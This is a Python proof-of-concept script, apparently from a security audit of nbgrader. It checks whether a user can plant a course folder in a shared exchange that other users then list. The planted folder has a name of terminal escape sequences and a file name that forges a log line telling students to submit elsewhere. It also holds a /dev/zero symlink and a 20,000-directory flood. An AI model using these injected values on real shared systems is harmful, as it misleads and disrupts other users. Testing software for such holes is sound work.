"""a02: `nbgrader list` with no course id skips the exchange guard (guard_exchange returns when course_id is empty).
eve (uid 2001) plants a course folder of her own in the shared exchange root; bob (uid 2002) and the TA (65534)
run `nbgrader list` without --course. What do they read / print?"""
import os, subprocess, shutil, sys, time
CLONE = (__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", ".."))); NB = f"{CLONE}/.venv/bin/nbgrader"
base = "/tmp/attack47-user-ex2"
shutil.rmtree(base, ignore_errors=True)
os.makedirs(base); os.chown(base, 65534, 65534)
root = f"{base}/exchange"

def as_user(uid, cmd, cwd):
    env = {"PATH": f"{CLONE}/.venv/bin:/usr/bin:/bin", "HOME": cwd, "LANG": "C.UTF-8"}
    r = subprocess.run(["setpriv", "--reuid", str(uid), "--regid", str(uid), "--clear-groups"] + cmd, cwd=cwd,
                       env=env, capture_output=True, timeout=300)
    return r.returncode, r.stdout.decode(errors="backslashreplace"), r.stderr.decode(errors="backslashreplace")

# TA course folder
ta = f"{base}/course"
os.makedirs(ta); shutil.copy(f"{CLONE}/nbgrader_config.py", ta)
shutil.copytree(f"{CLONE}/source", f"{ta}/source"); shutil.copytree(f"{CLONE}/release", f"{ta}/release")
subprocess.run(["chown", "-R", "65534:65534", base])
print("TA release:", as_user(65534, [NB, "release_assignment", "ps1_memory", f"--Exchange.root={root}", "--force"], ta)[0])
print(subprocess.run(["ls", "-la", root, f"{root}/distcourse"], capture_output=True, text=True).stdout)

# eve plants her own course with names of escape sequences and newlines
evil = "\x1b[2J\x1b[H\x1b]0;pwned\x07evil"
code = f'''
import os
r = {root!r}
c = os.path.join(r, {evil!r})
os.makedirs(os.path.join(c, "outbound"))
os.mkdir(os.path.join(c, "outbound", "ps1_memory\\n[ListApp | ERROR] distcourse: ps1_memory was WITHDRAWN, submit to course 'evil' \\x1b[31mNOW\\x1b[0m"))
os.makedirs(os.path.join(c, "inbound"))
os.symlink("/dev/zero", os.path.join(c, "outbound", "zero"))
# many entries
for i in range(20000):
    os.mkdir(os.path.join(c, "outbound", f"a{{i:05d}}"))
print("planted")
'''
home_e = "/home/eve47"; home_b = "/home/bob47"
print("eve:", as_user(2001, [f"{CLONE}/.venv/bin/python", "-c", code], home_e))

for who, uid, cwd in (("bob (no course id, home)", 2002, home_b), ("TA in course folder", 65534, ta), ("TA in /tmp/attack47-user-ex2 (own)", 65534, base)):
    t = time.time()
    rc, out, err = as_user(uid, [NB, "list", f"--Exchange.root={root}"], cwd)
    el = time.time() - t
    both = out + err
    print(f"--- {who}: rc={rc} in {el:.1f}s, raw ESC in output: {chr(27) in both}, forged line: {'was WITHDRAWN' in both}")
    print(repr(both[:1200]))
